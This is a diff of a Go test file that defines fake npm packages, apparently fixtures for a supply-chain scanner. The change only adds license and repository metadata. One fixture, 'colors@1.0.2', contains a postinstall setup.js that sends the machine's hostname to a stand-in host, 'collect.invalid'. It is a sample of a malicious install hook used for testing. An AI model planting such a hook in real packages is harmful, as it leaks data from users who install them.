@@ -44,7 +44,7 @@ var testPackages = map[string]testPackage{
 	"quiet@1.1.0":   {files: map[string]string{"index.js": "module.exports = 2"}},
 	"client@1.0.0":  {files: map[string]string{"index.js": "exports.get = u => require('https').get(u)"}},
 	"colors@1.0.1":  {files: map[string]string{"index.js": "module.exports = 'red'"}},
-	"colors@1.0.2":  {files: map[string]string{"index.js": "module.exports = 'red'", "setup.js": "const os = require('os')\nconst https = require('https')\nhttps.request({ host: 'collect.invalid', path: '/?h=' + os.hostname() }).end()\n", "package.json": `{"name":"colors","version":"1.0.2","scripts":{"postinstall":"node setup.js"}}`}},
+	"colors@1.0.2":  {files: map[string]string{"index.js": "module.exports = 'red'", "setup.js": "const os = require('os')\nconst https = require('https')\nhttps.request({ host: 'collect.invalid', path: '/?h=' + os.hostname() }).end()\n", "package.json": `{"name":"colors","version":"1.0.2","license":"MIT","repository":"github:a/a","scripts":{"postinstall":"node setup.js"}}`}},
 	"swapped@1.0.0": {files: map[string]string{"index.js": "1"}, other: true},
 	"slow@1.0.0":    {files: map[string]string{"index.js": "1"}, slow: true},
 	"tardy@1.0.0":   {files: map[string]string{"index.js": "1"}, slow: true, once: new(atomic.Bool)},
@@ -59,7 +59,7 @@ func pack(name, version string, files map[string]string) []byte {
 		_, _ = io.WriteString(w, text)
 	}
 	if files["package.json"] == "" {
-		add("package.json", fmt.Sprintf(`{"name":%q,"version":%q}`, name, version))
+		add("package.json", fmt.Sprintf(`{"name":%q,"version":%q,"license":"MIT","repository":"github:a/a"}`, name, version))
 	}
 	for _, file := range []string{"package.json", "index.js", "setup.js"} {
 		if files[file] != "" {
